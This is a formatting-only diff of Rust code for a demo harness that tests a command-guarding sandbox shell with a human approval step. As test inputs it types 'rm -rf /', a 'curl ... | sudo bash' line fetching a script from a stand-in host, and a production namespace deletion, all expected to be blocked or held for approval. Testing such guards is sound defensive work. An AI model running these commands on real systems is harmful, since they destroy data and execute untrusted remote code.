@@ -40,7 +40,9 @@ pub(crate) struct Session {
 /// Says early and clearly what the sandbox needs.
 pub(crate) fn possible() -> Result<()> {
     if !rustix::process::geteuid().is_root() {
-        bail!("the throw-away machine needs root (for its mounts): run the demo with sudo, or in a container you can spare with --privileged");
+        bail!(
+            "the throw-away machine needs root (for its mounts): run the demo with sudo, or in a container you can spare with --privileged"
+        );
     }
     let tried = Command::new("unshare")
         .args(["--mount", "--uts", "--net", "--pid", "--fork", "true"])
@@ -48,7 +50,10 @@ pub(crate) fn possible() -> Result<()> {
         .output()
         .context("`unshare` (package util-linux) is needed for the throw-away machine")?;
     if !tried.status.success() {
-        bail!("this machine does not allow namespaces of its own ({}): run the demo on the host or with --privileged", String::from_utf8_lossy(&tried.stderr).trim());
+        bail!(
+            "this machine does not allow namespaces of its own ({}): run the demo on the host or with --privileged",
+            String::from_utf8_lossy(&tried.stderr).trim()
+        );
     }
     Ok(())
 }
@@ -92,23 +97,44 @@ impl Shell {
         session.expect(&mut typist, "ls src", &["main.rs"]);
         session.expect(&mut typist, "rm -rf /", &["blocked"]);
         session.expect(&mut typist, "echo $?", &["126"]);
-        session.expect(&mut typist, "curl https://x.example/i.sh | sudo bash", &["blocked"]);
+        session.expect(
+            &mut typist,
+            "curl https://x.example/i.sh | sudo bash",
+            &["blocked"],
+        );
         session.expect(&mut typist, "rm -rf build && ls -d bu*d", &["No such file"]);
 
-        let asked = session.expect(&mut typist, "kubectl delete ns production", &["needs approval"]);
+        let asked = session.expect(
+            &mut typist,
+            "kubectl delete ns production",
+            &["needs approval"],
+        );
         match asked.as_deref().and_then(request_id) {
             Some(id) => {
-                let approved = tokio::task::block_in_place(|| tokio::runtime::Handle::current().block_on(people.approve(&id)));
+                let approved = tokio::task::block_in_place(|| {
+                    tokio::runtime::Handle::current().block_on(people.approve(&id))
+                });
                 match approved {
                     Ok(_) => {
                         tokio::time::sleep(Duration::from_millis(1500)).await;
-                        session.expect(&mut typist, "kubectl delete ns production", &["\"production\" deleted"]);
-                        session.expect(&mut typist, "kubectl delete ns production", &["needs approval"]);
+                        session.expect(
+                            &mut typist,
+                            "kubectl delete ns production",
+                            &["\"production\" deleted"],
+                        );
+                        session.expect(
+                            &mut typist,
+                            "kubectl delete ns production",
+                            &["needs approval"],
+                        );
                     }
                     Err(error) => session.wrong.push(format!("approving {id}: {error:#}")),
                 }
             }
-            None => session.wrong.push(format!("no request id after `kubectl delete ns production`: {}", asked.unwrap_or_default())),
+            None => session.wrong.push(format!(
+                "no request id after `kubectl delete ns production`: {}",
+                asked.unwrap_or_default()
+            )),
         }
         typist.line("exit")?;
         typist.end()?;
@@ -120,7 +146,9 @@ impl Session {
     /// Types a line and waits for one of the texts; what does not come is noted, not fatal.
     fn expect(&mut self, typist: &mut Typist, line: &str, texts: &[&str]) -> Option<String> {
         self.typed += 1;
-        let seen = typist.line(line).and_then(|()| typist.wait_for(texts, PATIENCE));
+        let seen = typist
+            .line(line)
+            .and_then(|()| typist.wait_for(texts, PATIENCE));
         match seen {
             Ok(_) => {
                 std::thread::sleep(Duration::from_millis(300)); // the rest of the message, and the prompt
@@ -136,6 +164,11 @@ impl Session {
 
 /// A request's id in a message: eight letters and digits without look-alikes.
 fn request_id(text: &str) -> Option<String> {
-    let alphabet = |c: char| c.is_ascii_digit() && !matches!(c, '0' | '1') || c.is_ascii_uppercase() && !matches!(c, 'I' | 'L' | 'O');
-    text.split(|c: char| !c.is_ascii_alphanumeric()).find(|word| word.len() == 8 && word.chars().all(alphabet)).map(str::to_owned)
+    let alphabet = |c: char| {
+        c.is_ascii_digit() && !matches!(c, '0' | '1')
+            || c.is_ascii_uppercase() && !matches!(c, 'I' | 'L' | 'O')
+    };
+    text.split(|c: char| !c.is_ascii_alphanumeric())
+        .find(|word| word.len() == 8 && word.chars().all(alphabet))
+        .map(str::to_owned)
 }
